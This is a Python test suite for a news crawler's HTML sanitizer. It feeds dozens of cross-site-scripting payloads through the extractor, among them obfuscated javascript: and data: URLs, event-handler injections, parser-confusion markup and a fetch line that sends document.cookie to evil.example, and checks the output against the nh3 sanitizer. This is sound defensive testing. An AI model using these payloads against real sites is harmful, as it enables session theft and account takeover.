"""Stored HTML is safe: a corpus of hostile markup, judged by an independent parser and its own allow-list (nh3)."""

from __future__ import annotations

import html
import re

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.models import ArticleFound
from crawler.extract import extract
from crawler.extract.body import SAFE, is_safe, sanitize
from tests.crawler.captures import ANY, PROSE, capture, page, paragraphs, rich

SCRIPTS = ("alert(1)", "x=1;//", "fetch(`//evil.example/`+document.cookie)")
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "//evil.example/a",
    'http://a.example/" onclick=alert(1) x="',
    "http://a.example/'onmouseover='alert(1)",
    "http://a.example/<script>alert(1)</script>",
    "https:javascript:alert(1)",
    "http://a.example/\x00javascript:",
    "feed:javascript:alert(1)",
    "jar:http://a!/b",
    "mhtml:http://a!b",
    "ht\ntp://a.example",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
)
FRAMES = (
    '<a href="{0}">tải về</a>',
    "<a href='{0}' target=_blank>tải về</a>",
    "<a href={0}>tải về</a>",
    '<img src="{0}" alt="ảnh">',
    '<img src=x onerror="{1}">',
    "<svg><script>{1}</script></svg>",
    "<svg onload={1}>",
    "<math><mtext><a href='{0}'>x</a></mtext></math>",
    '<iframe src="{0}"></iframe>',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<form action="{0}"><button>x</button></form>',
    '<p style="background:url({0})">chữ</p>',
    '<div onmouseover="{1}">chữ</div>',
    "<style>*{{background:url({0})}}</style>",
    "<script>{1}</script>",
    "<scr<script>ipt>{1}</scr</script>ipt>",
    "<!--><script>{1}</script>-->",
    "<![CDATA[<script>{1}</script>]]>",
    '<p title="</p><script>{1}</script>">chữ</p>',
    "<noscript><p title='</noscript><img src=x onerror={1}>'>",
    "<xmp><img src=x onerror={1}></xmp>",
    "<template><script>{1}</script></template>",
    "<table><tr><td background='{0}'>1</td><td onclick={1}>2</td></tr></table>",
    "<td colspan='2\" onclick=\"{1}'>1</td>",
    "<isindex action='{0}'>",
    "<base href='{0}'>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<link rel=stylesheet href='{0}'>",
    "&lt;script&gt;{1}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={1}&amp;gt;",
    "<p>a<b>b<i>c</b>d</i>{1}</p>",
    "<textarea><script>{1}</script></textarea>",
    "<title><img src=x onerror={1}></title>",
    "<plaintext><script>{1}</script>",
    "<svg><a xlink:href='{0}'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror={1}></style></svg>",
    "<a name=x id=y class=z {1}>x</a>",
    "<math><style><!--</style><img src=x onerror={1}>--></math>",
    "<li value=1 onclick={1}>mục",
    "<img srcset='{0} 1x' src='/a.jpg' longdesc='{0}'>",
    "<video src='{0}' onerror={1}></video>",
    "<marquee onstart={1}>chữ</marquee>",
    "<details open ontoggle={1}>chữ</details>",
    "<input autofocus onfocus={1}>",
)
HOSTILE = [frame.format(address, script) for frame in FRAMES for address in ADDRESSES for script in SCRIPTS[:1]]
ATTRIBUTES = {name: set(attributes) for name, attributes in SAFE.items() if attributes}


def judged(markup: str) -> str:
    """The markup as the judge leaves it."""
    return nh3.clean(
        markup, tags=set(SAFE), attributes=ATTRIBUTES, url_schemes={"http", "https"}, link_rel=None, strip_comments=True
    )


def plain(markup: str) -> str:
    """Markup without what two serialisers may write in two ways."""
    return html.unescape(re.sub(r"<br ?/>", "<br>", markup)).replace("\xa0", " ")


def same_to_a_judge(markup: str) -> bool:
    """Whether the judge finds nothing to take away. It may add what HTML implies: a table's body, an end tag."""
    return plain(judged(markup)).replace("<tbody>", "").replace("</tbody>", "") == plain(markup).replace(
        "<tbody>", ""
    ).replace("</tbody>", "")


def kept(markup: str) -> str:
    body = page(f"<h1>Tin thử</h1>{rich(paragraphs(PROSE[0]) + markup + paragraphs(*PROSE[1:]))}", title="Tin thử")
    outcome = extract(capture(body), ANY)
    return outcome.article.body_html if isinstance(outcome, ArticleFound) else ""


@pytest.mark.parametrize("frame", range(len(FRAMES)), ids=lambda index: FRAMES[index][:24])
def test_a_judge_finds_nothing_in_hostile_pages(frame: int) -> None:
    count = len(ADDRESSES)
    for markup in HOSTILE[frame * count : (frame + 1) * count]:
        body = kept(markup)
        assert is_safe(body), markup
        assert same_to_a_judge(body), (markup, body, judged(body))


@given(
    st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=5).map("".join), st.integers(0, 400), st.integers(0, 400)
)
def test_nor_in_pieces_of_them(markup: str, start: int, length: int) -> None:
    broken = markup[:start] + markup[start + length :]
    body = kept(broken)
    assert is_safe(body)
    assert same_to_a_judge(body), (broken, body, judged(body))


@given(st.lists(st.sampled_from(HOSTILE), max_size=4).map("".join))
def test_cleaning_is_proved_whatever_comes_in(markup: str) -> None:
    cleaned = sanitize(markup)
    assert is_safe(cleaned)
    assert sanitize(cleaned) == cleaned
    for address in re.findall(r'<[^>]* (?:href|src)="([^"]*)"', cleaned):
        assert address.startswith(("http://", "https://"))
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r'"[^"]*"', '""', cleaned), re.I)
